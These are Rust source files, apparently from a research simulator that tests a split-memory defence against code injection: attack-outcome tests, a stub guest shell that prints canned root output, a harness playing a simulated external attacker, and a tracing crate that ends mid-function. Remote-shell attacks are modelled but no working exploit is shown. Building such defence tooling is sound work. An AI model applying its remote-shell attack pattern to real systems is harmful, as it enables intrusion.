        // Baseline: unprotected, the probe finds clean ground.
        let r = run_reuse(ReuseAttack::DcrFingerprint, &Protection::Unprotected);
        assert_eq!(r.marker.as_deref(), Some("CLEN"), "{r:?}");
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned);
        assert_eq!(r.detections, 0);

        // NX observe mode: relocated to the decoy, fingerprint fires.
        let r = run_reuse(
            ReuseAttack::DcrFingerprint,
            &Protection::NxResponse(ResponseMode::Observe),
        );
        assert_eq!(r.marker.as_deref(), Some("HPOT"), "{r:?}");
        assert_ne!(r.outcome, AttackOutcome::ShellSpawned);
        assert!(r.detections > 0, "honeypot must still log the attack");

        // Split observe mode: healed in place, probe sees clean ground —
        // but the kernel logged everything.
        let r = run_reuse(
            ReuseAttack::DcrFingerprint,
            &Protection::SplitMem(ResponseMode::Observe),
        );
        assert_eq!(r.marker.as_deref(), Some("CLEN"), "{r:?}");
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned);
        assert!(r.detections > 0, "split observe must log the injection");
    }

    /// Break-mode engines stop the fingerprint probe before it reports
    /// anything (it is an injection attack, after all).
    #[test]
    fn fingerprint_foiled_by_break_modes() {
        for p in [
            Protection::SplitMem(ResponseMode::Break),
            Protection::Nx,
            Protection::ShadowStack(ResponseMode::Break),
        ] {
            let r = run_reuse(ReuseAttack::DcrFingerprint, &p);
            assert!(!r.outcome.succeeded(), "{p:?}: {r:?}");
            assert!(r.detections > 0, "{p:?}: {r:?}");
            assert_eq!(r.marker, None, "{p:?}: probe ran far enough to report");
        }
    }
}
