//! The `/bin/sh` guest image.
//!
//! Successful exploits `execve("/bin/sh")`; this is the shell they get. It
//! reads commands from fd 0 and answers on fd 1 (which remote-shell
//! payloads have `dup2`'d onto the attacker's socket), supporting the
//! handful of commands the paper's screenshots show an attacker typing
//! (`id`, `whoami`, `uname`, `exit`).

use sm_kernel::fs::RamFs;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};

/// Canonical shell path; the harness treats an `Exec` event for this path
/// as proof the attack achieved code execution.
pub const SHELL_PATH: &str = "/bin/sh";

/// Build the shell image.
pub fn shell_program() -> BuiltProgram {
    ProgramBuilder::new(SHELL_PATH)
        .code(
            "_start:
                mov ebx, 1
                mov esi, prompt
                call fdputs
                mov ebx, 0
                mov edi, cmdbuf
                mov edx, 64
                call read_line
                cmp eax, 0
                je maybe_eof
                mov dword [sawinput], 1
                mov esi, cmdbuf
                mov edi, cmd_id
                call strcmp
                cmp eax, 0
                je do_id
                mov esi, cmdbuf
                mov edi, cmd_whoami
                call strcmp
                cmp eax, 0
                je do_whoami
                mov esi, cmdbuf
                mov edi, cmd_uname
                call strcmp
                cmp eax, 0
                je do_uname
                mov esi, cmdbuf
                mov edi, cmd_exit
                call strcmp
                cmp eax, 0
                je do_exit
                mov ebx, 1
                mov esi, notfound
                call fdputs
                jmp _start
            maybe_eof:
                ; empty line vs EOF: a second zero-length read in a row is
                ; treated as EOF.
                mov eax, [eofcount]
                inc eax
                mov [eofcount], eax
                cmp eax, 3
                jae do_exit
                jmp _start
            do_id:
                mov ebx, 1
                mov esi, id_out
                call fdputs
                jmp _start
            do_whoami:
                mov ebx, 1
                mov esi, whoami_out
                call fdputs
                jmp _start
            do_uname:
                mov ebx, 1
                mov esi, uname_out
                call fdputs
                jmp _start
            do_exit:
                mov ebx, 0
                call exit",
        )
        .data(
            "prompt: .asciz \"$ \"
             cmdbuf: .space 64
             sawinput: .word 0
             eofcount: .word 0
             cmd_id: .asciz \"id\"
             cmd_whoami: .asciz \"whoami\"
             cmd_uname: .asciz \"uname\"
             cmd_exit: .asciz \"exit\"
             id_out: .asciz \"uid=0(root) gid=0(root) groups=0(root)\\n\"
             whoami_out: .asciz \"root\\n\"
             uname_out: .asciz \"sm-linux 2.6.13 i686\\n\"
             notfound: .asciz \"sh: command not found\\n\"",
        )
        .build()
        .expect("shell assembles")
}

/// Install the shell image into a filesystem so `execve("/bin/sh")` works.
///
/// The assembled image bytes are memoized: the shell is a fixed program,
/// and every experiment kernel installs it, so re-assembling it per kernel
/// would dominate sweep setup time.
pub fn install_shell(fs: &mut RamFs) {
    static SHELL_BYTES: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    let bytes = SHELL_BYTES.get_or_init(|| shell_program().image.to_bytes());
    fs.install(SHELL_PATH, bytes.clone());
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::engine::NullEngine;
    use sm_kernel::kernel::{Kernel, RunExit};

    #[test]
    fn shell_answers_id_and_exits() {
        let prog = shell_program();
        let mut k = Kernel::with_engine(Box::new(NullEngine));
        let pid = k.spawn(&prog.image).unwrap();
        k.sys.proc_mut(pid).input = b"id\nwhoami\nexit\n".to_vec();
        assert_eq!(k.run(80_000_000), RunExit::AllExited);
        let out = k.sys.proc(pid).output_string();
        assert!(out.contains("uid=0(root)"), "{out}");
        assert!(out.contains("root\n"), "{out}");
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
    }

    #[test]
    fn unknown_command_reports_not_found() {
        let prog = shell_program();
        let mut k = Kernel::with_engine(Box::new(NullEngine));
        let pid = k.spawn(&prog.image).unwrap();
        k.sys.proc_mut(pid).input = b"frobnicate\nexit\n".to_vec();
        k.run(80_000_000);
        assert!(k
            .sys
            .proc(pid)
            .output_string()
            .contains("command not found"));
    }

    #[test]
    fn eof_terminates_shell() {
        let prog = shell_program();
        let mut k = Kernel::with_engine(Box::new(NullEngine));
        let pid = k.spawn(&prog.image).unwrap();
        // No input at all: repeated zero-length reads → EOF → exit.
        assert_eq!(k.run(80_000_000), RunExit::AllExited);
        assert_eq!(k.sys.proc(pid).exit_code, Some(0));
    }
}
