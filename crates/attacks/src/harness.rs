//! Attack harness: protection configurations, an "external attacker"
//! network endpoint, and outcome classification.
//!
//! The paper's exploits run from an attacker machine outside the testbed;
//! the harness plays that role from host Rust — it opens loopback
//! connections directly against the simulated network stack, pushes and
//! drains bytes, and interleaves `Kernel::run` slices the way a remote
//! peer's traffic would interleave with server execution.

use crate::shell::{install_shell, SHELL_PATH};
use sm_kernel::events::Event;
use sm_kernel::fs::PipeId;
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_kernel::process::{Pid, ProcState, WaitReason};

pub use sm_core::setup::Protection;

/// Build a kernel configured for `protection`, with the shell installed
/// (so successful exploits have something to exec).
pub fn kernel_with(protection: &Protection, kconfig: KernelConfig) -> Kernel {
    kernel_with_on(protection, sm_machine::TlbPreset::default(), kconfig)
}

/// [`kernel_with`] on an explicit TLB geometry (the attack corpus must
/// hold on the paper's real testbed hardware, not just the idealised
/// fully-associative model).
pub fn kernel_with_on(
    protection: &Protection,
    tlb: sm_machine::TlbPreset,
    kconfig: KernelConfig,
) -> Kernel {
    let mut k = protection.kernel_on(tlb, kconfig);
    install_shell(&mut k.sys.fs);
    k
}

/// An attacker-side connection into the simulated network.
#[derive(Debug, Clone, Copy)]
pub struct ExternalConn {
    /// Attacker → victim bytes (the victim's socket reads these).
    pub c2s: PipeId,
    /// Victim → attacker bytes.
    pub s2c: PipeId,
}

/// Connect to `port` from outside the machine. Returns `None` if nothing
/// is listening yet (run the kernel a little and retry).
pub fn external_connect(k: &mut Kernel, port: u16) -> Option<ExternalConn> {
    let conn = k.sys.net.connect(&mut k.sys.pipes, port)?;
    k.sys.wake_where(|r| *r == WaitReason::Accept(port));
    Some(ExternalConn {
        c2s: conn.c2s,
        s2c: conn.s2c,
    })
}

/// Connect, running the kernel in slices until the listener appears.
/// Returns `None` if it never does within the budget.
pub fn external_connect_patiently(k: &mut Kernel, port: u16, budget: u64) -> Option<ExternalConn> {
    let deadline = k.sys.machine.cycles + budget;
    loop {
        if let Some(c) = external_connect(k, port) {
            return Some(c);
        }
        if k.sys.machine.cycles >= deadline {
            return None;
        }
        // A fully blocked or exited system will never start listening.
        if k.run(50_000) != sm_kernel::RunExit::CyclesExhausted {
            return external_connect(k, port);
        }
    }
}

/// Send attacker bytes (waking any blocked reader).
pub fn ext_send(k: &mut Kernel, conn: &ExternalConn, bytes: &[u8]) {
    let n = k.sys.pipes.get_mut(conn.c2s).write(bytes);
    assert_eq!(n, bytes.len(), "attack payload exceeded pipe capacity");
    k.sys
        .wake_where(|r| *r == WaitReason::PipeReadable(conn.c2s));
}

/// Drain whatever the victim has sent.
pub fn ext_recv(k: &mut Kernel, conn: &ExternalConn) -> Vec<u8> {
    let pipe = k.sys.pipes.get_mut(conn.s2c);
    let mut buf = vec![0u8; pipe.len()];
    let n = pipe.read(&mut buf);
    buf.truncate(n);
    if !buf.is_empty() {
        k.sys
            .wake_where(|r| *r == WaitReason::PipeWritable(conn.s2c));
    }
    buf
}

/// Run the kernel until the victim sends something (or the budget runs
/// out); returns the received bytes.
pub fn ext_recv_wait(k: &mut Kernel, conn: &ExternalConn, budget: u64) -> Vec<u8> {
    let deadline = k.sys.machine.cycles + budget;
    loop {
        let got = ext_recv(k, conn);
        if !got.is_empty() {
            return got;
        }
        if k.sys.machine.cycles >= deadline {
            return Vec::new();
        }
        // A quiesced system (everything blocked or exited) sends nothing.
        if k.run(50_000) != sm_kernel::RunExit::CyclesExhausted {
            return ext_recv(k, conn);
        }
    }
}

/// Close the attacker's side of a connection.
pub fn ext_close(k: &mut Kernel, conn: &ExternalConn) {
    k.sys.pipes.drop_writer(conn.c2s);
    k.sys.pipes.drop_reader(conn.s2c);
    k.sys
        .wake_where(|r| *r == WaitReason::PipeReadable(conn.c2s));
}

/// How an attack run ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackOutcome {
    /// A shell was spawned (`execve("/bin/sh")` observed) — full
    /// compromise, the paper's "attack success".
    ShellSpawned,
    /// The marker payload ran (exit-status proof) without a shell.
    PayloadExecuted,
    /// The attack was stopped; `detected` says whether the protection
    /// logged it (split memory always does; a plain crash does not).
    Foiled {
        /// An [`Event::AttackDetected`] was logged.
        detected: bool,
    },
}

impl AttackOutcome {
    /// Did the attacker get code execution?
    pub fn succeeded(&self) -> bool {
        matches!(
            self,
            AttackOutcome::ShellSpawned | AttackOutcome::PayloadExecuted
        )
    }
}

/// Classify the outcome for a victim that uses [`crate::shellcode::exit_code`]
/// with `marker` as its payload.
pub fn classify_marker(k: &Kernel, pid: Pid, marker: u8) -> AttackOutcome {
    if k.sys.events.execed(SHELL_PATH) {
        return AttackOutcome::ShellSpawned;
    }
    let exited_with_marker = k
        .sys
        .procs
        .get(&pid.0)
        .map(|p| p.exit_code == Some(marker as i32))
        .unwrap_or(false);
    if exited_with_marker {
        return AttackOutcome::PayloadExecuted;
    }
    AttackOutcome::Foiled {
        detected: k.sys.events.first_detection().is_some(),
    }
}

/// Classify the outcome for shell-spawning exploits.
pub fn classify_shell(k: &Kernel) -> AttackOutcome {
    if k.sys.events.execed(SHELL_PATH) {
        return AttackOutcome::ShellSpawned;
    }
    AttackOutcome::Foiled {
        detected: k.sys.events.first_detection().is_some(),
    }
}

/// Drive an interactive session with a spawned remote shell: send each
/// command, collect the responses. Returns the concatenated transcript.
pub fn drive_shell(k: &mut Kernel, conn: &ExternalConn, commands: &[&str]) -> String {
    let mut transcript = String::new();
    for cmd in commands {
        k.run(400_000);
        transcript.push_str(&String::from_utf8_lossy(&ext_recv(k, conn)));
        ext_send(k, conn, format!("{cmd}\n").as_bytes());
        k.run(400_000);
        transcript.push_str(&String::from_utf8_lossy(&ext_recv(k, conn)));
    }
    transcript
}

/// True if any process is still alive (ready or blocked).
pub fn victim_alive(k: &Kernel, pid: Pid) -> bool {
    k.sys
        .procs
        .get(&pid.0)
        .is_some_and(|p| p.state != ProcState::Zombie)
}

/// Count detections in the event log.
pub fn detections(k: &Kernel) -> usize {
    k.sys
        .events
        .iter()
        .filter(|e| matches!(e, Event::AttackDetected { .. }))
        .count()
}
