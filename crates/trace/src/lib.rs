//! Flight-recorder tracing for the split-memory simulator.
//!
//! The paper's argument rests on a precise *sequence* of micro-events —
//! supervisor-bit page fault, I-vs-D disambiguation, TLB fill, debug-trap
//! re-restriction (Algorithms 1–2) — but aggregate counters
//! (`MachineStats`, `KernelStats`) can only say how *often* each step ran,
//! not whether they ran in the right order. This crate provides the
//! missing substrate:
//!
//! * [`TraceEvent`] — a closed taxonomy of every split-memory transition
//!   worth observing, stamped with the simulated cycle counter (the same
//!   clock the kernel `EventLog` uses, so the two streams merge-sort).
//! * [`Tracer`] — a bounded ring buffer with a per-layer enable mask.
//!   With the mask clear every emit site is a single load-test-branch and
//!   nothing allocates, so tracing is effectively free when disabled.
//! * [`Tracer::to_jsonl`] — deterministic JSONL export (one object per
//!   record, fixed key order) for CI artifacts and offline diffing.
//! * [`check_order`] — an ordering-invariant checker that validates the
//!   *sequence* of engine events: every PTE unrestrict is closed by a
//!   re-restrict (or armed single-step window) before anything else runs,
//!   and every armed window fires or is disarmed before the next arm or
//!   the owning process's exit. This is strictly stronger than the
//!   state-snapshot invariants in `sm-core`: those can only see the
//!   machine *between* steps, while a trace records what happened inside
//!   the fault handlers.
//!
//! The crate sits below `sm-machine` in the dependency graph and knows
//! nothing about machines or kernels: events carry plain integers, and the
//! embedding layers decide what to emit.

use std::collections::{HashMap, VecDeque};

/// Per-layer enable bits. A [`Tracer`] records an event only when the
/// event's layer bit is set in its mask, so callers can trace (say) engine
/// transitions without drowning in TLB fills.
pub mod mask {
    /// TLB fills, evictions and flushes (machine layer).
    pub const TLB: u32 = 1 << 0;
    /// Page-fault entries with the I/D disambiguation verdict.
    pub const FAULT: u32 = 1 << 1;
    /// PTE restriction state changes (split/unsplit/restrict/unrestrict).
    pub const PTE: u32 = 1 << 2;
    /// Single-step window arm/fire/disarm.
    pub const STEP: u32 = 1 << 3;
    /// Copy-on-write sharing and breaks.
    pub const COW: u32 = 1 << 4;
    /// Scheduler context switches.
    pub const SCHED: u32 = 1 << 5;
    /// Chaos-harness fault injections.
    pub const CHAOS: u32 = 1 << 6;
    /// Engine attack detections.
    pub const DETECT: u32 = 1 << 7;
    /// Process lifecycle (exit).
    pub const PROC: u32 = 1 << 8;

    /// Everything the machine layer emits.
    pub const MACHINE: u32 = TLB;
    /// Everything the kernel layer emits.
    pub const KERNEL: u32 = FAULT | COW | SCHED | CHAOS | PROC;
    /// Everything the protection engines emit.
    pub const ENGINE: u32 = PTE | STEP | DETECT;
    /// All layers.
    pub const ALL: u32 = MACHINE | KERNEL | ENGINE;
}

/// Which TLB an event refers to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TlbSide {
    /// Instruction TLB.
    Instruction,
    /// Data TLB.
    Data,
}

impl TlbSide {
    fn json(self) -> &'static str {
        match self {
            TlbSide::Instruction => "i",
            TlbSide::Data => "d",
        }
    }
}

/// 3C classification of the miss that triggered a fill.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum MissClass {
    /// First touch of the page (never filled before).
    #[default]
    Cold,
    /// A fully-associative buffer of the same capacity would have hit.
    Conflict,
    /// The shadow fully-associative model had also dropped the page.
    Capacity,
}

impl MissClass {
    fn json(self) -> &'static str {
        match self {
            MissClass::Cold => "cold",
            MissClass::Conflict => "conflict",
            MissClass::Capacity => "capacity",
        }
    }
}

/// Why a TLB entry left the buffer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EvictCause {
    /// Per-set LRU made room for a fill.
    Capacity,
    /// The chaos harness forced the entry out.
    Chaos,
    /// The hardware dropped a stale-permissive entry on a rights check,
    /// or the kernel dropped a leaked translation.
    Drop,
}

impl EvictCause {
    fn json(self) -> &'static str {
        match self {
            EvictCause::Capacity => "capacity",
            EvictCause::Chaos => "chaos",
            EvictCause::Drop => "drop",
        }
    }
}

/// Scope of a TLB flush.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FlushScope {
    /// Both TLBs, every entry (CR3 load or explicit shootdown).
    All,
    /// One page in both TLBs (`invlpg`).
    Page,
}

impl FlushScope {
    fn json(self) -> &'static str {
        match self {
            FlushScope::All => "all",
            FlushScope::Page => "page",
        }
    }
}

/// The faulting access kind, as reported by the MMU.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AccessKind {
    /// Instruction fetch.
    Fetch,
    /// Data read.
    Read,
    /// Data write.
    Write,
}

impl AccessKind {
    fn json(self) -> &'static str {
        match self {
            AccessKind::Fetch => "fetch",
            AccessKind::Read => "read",
            AccessKind::Write => "write",
        }
    }
}

/// The kernel's disambiguation verdict for a page fault (paper Algorithm 1
/// line 3: "if fault was caused by an instruction fetch").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultVerdict {
    /// Supervisor-bit fault on a split page, fetch access: instruction
    /// reload path (Algorithm 1 lines 4–7 / Algorithm 2).
    Instruction,
    /// Supervisor-bit fault on a split page, data access: data reload path
    /// (Algorithm 1 lines 8–11).
    Data,
    /// Not a split-page fault: ordinary demand paging / COW / protection.
    Other,
}

impl FaultVerdict {
    fn json(self) -> &'static str {
        match self {
            FaultVerdict::Instruction => "instruction",
            FaultVerdict::Data => "data",
            FaultVerdict::Other => "other",
        }
    }
}

/// Which PTE view a transient unrestriction exposed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReloadKind {
    /// The code frame was made user-visible (I-TLB reload).
    Code,
    /// The data frame was made user-visible (D-TLB reload).
    Data,
}

impl ReloadKind {
    fn json(self) -> &'static str {
        match self {
            ReloadKind::Code => "code",
            ReloadKind::Data => "data",
        }
    }
}

/// Why a single-step window was torn down without firing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DisarmCause {
    /// The engine detected an attack inside the window (#UD on the
    /// zero-filled data view).
    Detection,
    /// The owning process exited mid-window.
    Exit,
}

impl DisarmCause {
    fn json(self) -> &'static str {
        match self {
            DisarmCause::Detection => "detection",
            DisarmCause::Exit => "exit",
        }
    }
}

/// Which fault the chaos harness injected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChaosKind {
    /// Full TLB flush.
    Flush,
    /// Single-entry eviction.
    Evict,
    /// Forced preemption.
    Preempt,
    /// Asynchronous signal.
    Signal,
}

impl ChaosKind {
    fn json(self) -> &'static str {
        match self {
            ChaosKind::Flush => "flush",
            ChaosKind::Evict => "evict",
            ChaosKind::Preempt => "preempt",
            ChaosKind::Signal => "signal",
        }
    }
}

/// The engine's configured response when an attack is detected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResponseKind {
    /// Terminate the process.
    Break,
    /// Let it run against the benign data view (honeypot).
    Observe,
    /// Capture the shellcode for analysis.
    Forensics,
}

impl ResponseKind {
    fn json(self) -> &'static str {
        match self {
            ResponseKind::Break => "break",
            ResponseKind::Observe => "observe",
            ResponseKind::Forensics => "forensics",
        }
    }
}

/// One traced transition. Fields are plain integers so the crate stays at
/// the bottom of the dependency graph; `pid` is a kernel process id, `vpn`
/// a virtual page number, `pfn` a physical frame number.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TraceEvent {
    /// A pagetable walk (or software fill) inserted a TLB entry. `way` is
    /// the MRU position the entry landed in; `class` classifies the miss
    /// that forced the walk.
    TlbFill {
        /// Which TLB.
        tlb: TlbSide,
        /// Virtual page number filled.
        vpn: u32,
        /// Physical frame it maps to.
        pfn: u32,
        /// Set index.
        set: u32,
        /// MRU position within the set.
        way: u32,
        /// 3C class of the triggering miss.
        class: MissClass,
    },
    /// A valid entry left a TLB outside of a flush.
    TlbEvict {
        /// Which TLB.
        tlb: TlbSide,
        /// Victim virtual page number.
        vpn: u32,
        /// Set index the victim lived in.
        set: u32,
        /// Why it was evicted.
        cause: EvictCause,
    },
    /// Both TLBs (or one page of both) were flushed.
    TlbFlush {
        /// Whole-TLB or single-page.
        scope: FlushScope,
        /// The invalidated page for [`FlushScope::Page`]; 0 otherwise.
        vpn: u32,
    },
    /// The kernel entered its page-fault handler.
    PageFault {
        /// Faulting process.
        pid: u32,
        /// Faulting address.
        addr: u32,
        /// User EIP at the fault.
        eip: u32,
        /// Access kind the MMU reported.
        access: AccessKind,
        /// Whether the translation was present (rights fault) or not.
        present: bool,
        /// The split-memory I/D disambiguation verdict.
        verdict: FaultVerdict,
    },
    /// A page entered split-memory protection (user bit cleared at rest).
    PageSplit {
        /// Owning process.
        pid: u32,
        /// Page.
        vpn: u32,
    },
    /// A page permanently left split-memory protection (degrade, lock to
    /// data, or address-space teardown).
    PageUnsplit {
        /// Owning process.
        pid: u32,
        /// Page.
        vpn: u32,
    },
    /// A split page was transiently made user-accessible so the next
    /// access reloads one TLB (Algorithm 1 lines 5/9).
    PteUnrestrict {
        /// Owning process.
        pid: u32,
        /// Page.
        vpn: u32,
        /// Which frame view was exposed.
        reload: ReloadKind,
    },
    /// A transiently-opened split page was re-restricted (user bit cleared
    /// again; Algorithm 1 line 11 / Algorithm 2 line 7).
    PteRestrict {
        /// Owning process.
        pid: u32,
        /// Page.
        vpn: u32,
    },
    /// The engine armed the trap flag to close an unrestricted page after
    /// exactly one instruction (Algorithm 2 lines 3–4).
    StepArm {
        /// Owning process.
        pid: u32,
        /// The page left open for the single fetch.
        vpn: u32,
    },
    /// The armed debug trap fired (Algorithm 2 line 6).
    StepFire {
        /// Owning process.
        pid: u32,
        /// EIP after the stepped instruction.
        eip: u32,
        /// The page the window was protecting.
        vpn: u32,
    },
    /// An armed window was torn down without firing.
    StepDisarm {
        /// Owning process.
        pid: u32,
        /// The page the window was protecting.
        vpn: u32,
        /// Why.
        cause: DisarmCause,
    },
    /// `fork` shared the parent's frames copy-on-write with the child.
    CowShare {
        /// Parent process.
        parent: u32,
        /// Child process.
        child: u32,
    },
    /// A write to a shared frame broke COW and copied it.
    CowBreak {
        /// Writing process.
        pid: u32,
        /// Page whose mapping was rewritten.
        vpn: u32,
        /// The private frame it now maps.
        new_pfn: u32,
    },
    /// The scheduler switched address spaces.
    SchedSwitch {
        /// Previous process (`u32::MAX` if none was loaded).
        from: u32,
        /// Next process.
        to: u32,
    },
    /// The chaos harness injected a fault after a step.
    ChaosInject {
        /// The process that was running.
        pid: u32,
        /// Which fault.
        kind: ChaosKind,
    },
    /// The engine detected injected code (#UD on the data view).
    Detection {
        /// Offending process.
        pid: u32,
        /// EIP of the undecodable instruction.
        eip: u32,
        /// Configured response.
        mode: ResponseKind,
    },
    /// A process exited.
    ProcessExit {
        /// The process.
        pid: u32,
        /// Exit code (128+signal for fatal signals).
        code: i32,
    },
}

impl TraceEvent {
    /// The layer bit (see [`mask`]) this event belongs to.
    pub fn layer(&self) -> u32 {
        match self {
            TraceEvent::TlbFill { .. }
            | TraceEvent::TlbEvict { .. }
            | TraceEvent::TlbFlush { .. } => mask::TLB,
            TraceEvent::PageFault { .. } => mask::FAULT,
            TraceEvent::PageSplit { .. }
            | TraceEvent::PageUnsplit { .. }
            | TraceEvent::PteUnrestrict { .. }
            | TraceEvent::PteRestrict { .. } => mask::PTE,
            TraceEvent::StepArm { .. }
            | TraceEvent::StepFire { .. }
            | TraceEvent::StepDisarm { .. } => mask::STEP,
            TraceEvent::CowShare { .. } | TraceEvent::CowBreak { .. } => mask::COW,
            TraceEvent::SchedSwitch { .. } => mask::SCHED,
            TraceEvent::ChaosInject { .. } => mask::CHAOS,
            TraceEvent::Detection { .. } => mask::DETECT,
            TraceEvent::ProcessExit { .. } => mask::PROC,
        }
    }

    /// True if the event concerns process `pid`. Machine-layer TLB events
    /// carry no process id and always pass (they are the ambient hardware
    /// context any per-process story still needs); two-process events
    /// (`SchedSwitch`, `CowShare`) match on either side.
    pub fn involves(&self, pid: u32) -> bool {
        match *self {
            TraceEvent::TlbFill { .. }
            | TraceEvent::TlbEvict { .. }
            | TraceEvent::TlbFlush { .. } => true,
            TraceEvent::PageFault { pid: p, .. }
            | TraceEvent::PageSplit { pid: p, .. }
            | TraceEvent::PageUnsplit { pid: p, .. }
            | TraceEvent::PteUnrestrict { pid: p, .. }
            | TraceEvent::PteRestrict { pid: p, .. }
            | TraceEvent::StepArm { pid: p, .. }
            | TraceEvent::StepFire { pid: p, .. }
            | TraceEvent::StepDisarm { pid: p, .. }
            | TraceEvent::CowBreak { pid: p, .. }
            | TraceEvent::ChaosInject { pid: p, .. }
            | TraceEvent::Detection { pid: p, .. }
            | TraceEvent::ProcessExit { pid: p, .. } => p == pid,
            TraceEvent::CowShare { parent, child } => parent == pid || child == pid,
            TraceEvent::SchedSwitch { from, to } => from == pid || to == pid,
        }
    }

    /// Short kind tag used as the JSONL `kind` field.
    pub fn kind(&self) -> &'static str {
        match self {
            TraceEvent::TlbFill { .. } => "tlb_fill",
            TraceEvent::TlbEvict { .. } => "tlb_evict",
            TraceEvent::TlbFlush { .. } => "tlb_flush",
            TraceEvent::PageFault { .. } => "page_fault",
            TraceEvent::PageSplit { .. } => "page_split",
            TraceEvent::PageUnsplit { .. } => "page_unsplit",
            TraceEvent::PteUnrestrict { .. } => "pte_unrestrict",
            TraceEvent::PteRestrict { .. } => "pte_restrict",
            TraceEvent::StepArm { .. } => "step_arm",
            TraceEvent::StepFire { .. } => "step_fire",
            TraceEvent::StepDisarm { .. } => "step_disarm",
            TraceEvent::CowShare { .. } => "cow_share",
            TraceEvent::CowBreak { .. } => "cow_break",
            TraceEvent::SchedSwitch { .. } => "sched_switch",
            TraceEvent::ChaosInject { .. } => "chaos_inject",
            TraceEvent::Detection { .. } => "detection",
            TraceEvent::ProcessExit { .. } => "process_exit",
        }
    }
}

/// A recorded event: global sequence number, simulated-cycle stamp, event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TraceRecord {
    /// Position in the *whole* event stream (including records the ring
    /// has since dropped), so consumers can detect truncation.
    pub seq: u64,
    /// Simulated cycle counter at emission — the same clock the kernel
    /// `EventLog` stamps, so the two streams interleave consistently.
    pub cycles: u64,
    /// The event.
    pub event: TraceEvent,
}

impl TraceRecord {
    /// Render the record as one JSON object (fixed key order; the JSONL
    /// schema CI validates).
    pub fn to_json(&self) -> String {
        let head = format!(
            "{{\"seq\":{},\"cycles\":{},\"kind\":\"{}\"",
            self.seq,
            self.cycles,
            self.event.kind()
        );
        let body = match self.event {
            TraceEvent::TlbFill {
                tlb,
                vpn,
                pfn,
                set,
                way,
                class,
            } => format!(
                ",\"tlb\":\"{}\",\"vpn\":{vpn},\"pfn\":{pfn},\"set\":{set},\"way\":{way},\"class\":\"{}\"",
                tlb.json(),
                class.json()
            ),
            TraceEvent::TlbEvict { tlb, vpn, set, cause } => format!(
                ",\"tlb\":\"{}\",\"vpn\":{vpn},\"set\":{set},\"cause\":\"{}\"",
                tlb.json(),
                cause.json()
            ),
            TraceEvent::TlbFlush { scope, vpn } => {
                format!(",\"scope\":\"{}\",\"vpn\":{vpn}", scope.json())
            }
            TraceEvent::PageFault {
                pid,
                addr,
                eip,
                access,
                present,
                verdict,
            } => format!(
                ",\"pid\":{pid},\"addr\":{addr},\"eip\":{eip},\"access\":\"{}\",\"present\":{present},\"verdict\":\"{}\"",
                access.json(),
                verdict.json()
            ),
            TraceEvent::PageSplit { pid, vpn } | TraceEvent::PageUnsplit { pid, vpn } => {
                format!(",\"pid\":{pid},\"vpn\":{vpn}")
            }
            TraceEvent::PteUnrestrict { pid, vpn, reload } => {
                format!(",\"pid\":{pid},\"vpn\":{vpn},\"reload\":\"{}\"", reload.json())
            }
            TraceEvent::PteRestrict { pid, vpn } => format!(",\"pid\":{pid},\"vpn\":{vpn}"),
            TraceEvent::StepArm { pid, vpn } => format!(",\"pid\":{pid},\"vpn\":{vpn}"),
            TraceEvent::StepFire { pid, eip, vpn } => {
                format!(",\"pid\":{pid},\"eip\":{eip},\"vpn\":{vpn}")
            }
            TraceEvent::StepDisarm { pid, vpn, cause } => {
                format!(",\"pid\":{pid},\"vpn\":{vpn},\"cause\":\"{}\"", cause.json())
            }
            TraceEvent::CowShare { parent, child } => {
                format!(",\"parent\":{parent},\"child\":{child}")
            }
            TraceEvent::CowBreak { pid, vpn, new_pfn } => {
                format!(",\"pid\":{pid},\"vpn\":{vpn},\"new_pfn\":{new_pfn}")
            }
            TraceEvent::SchedSwitch { from, to } => format!(",\"from\":{from},\"to\":{to}"),
            TraceEvent::ChaosInject { pid, kind } => {
                format!(",\"pid\":{pid},\"chaos\":\"{}\"", kind.json())
            }
            TraceEvent::Detection { pid, eip, mode } => {
                format!(",\"pid\":{pid},\"eip\":{eip},\"mode\":\"{}\"", mode.json())
            }
            TraceEvent::ProcessExit { pid, code } => format!(",\"pid\":{pid},\"code\":{code}"),
        };
        format!("{head}{body}}}")
    }
}

/// Bounded, masked ring buffer of [`TraceRecord`]s.
///
/// The mask is checked before an event is even constructed (see
/// [`Tracer::emit`]), so a disabled tracer costs one load-test-branch per
/// emit site and never allocates. When the ring is full the oldest record
/// is dropped; [`Tracer::dropped`] reports how many, and [`TraceRecord::seq`]
/// stays globally consistent so truncation is always detectable.
#[derive(Debug, Clone)]
pub struct Tracer {
    enabled_mask: u32,
    capacity: usize,
    next_seq: u64,
    // When set, events not involving this pid are dropped *before* a
    // sequence number is assigned, so a filtered stream still has gap-free
    // seqs (the property CI's jq check asserts).
    pid_filter: Option<u32>,
    buf: VecDeque<TraceRecord>,
}

impl Default for Tracer {
    fn default() -> Tracer {
        Tracer::disabled()
    }
}

impl Tracer {
    /// Default ring capacity when tracing is enabled.
    pub const DEFAULT_CAPACITY: usize = 4096;

    /// A tracer that records nothing (the zero-cost default).
    pub fn disabled() -> Tracer {
        Tracer {
            enabled_mask: 0,
            capacity: 0,
            next_seq: 0,
            pid_filter: None,
            buf: VecDeque::new(),
        }
    }

    /// A tracer recording the layers in `mask` into a ring of `capacity`
    /// records.
    pub fn new(mask: u32, capacity: usize) -> Tracer {
        Tracer {
            enabled_mask: if capacity == 0 { 0 } else { mask },
            capacity,
            next_seq: 0,
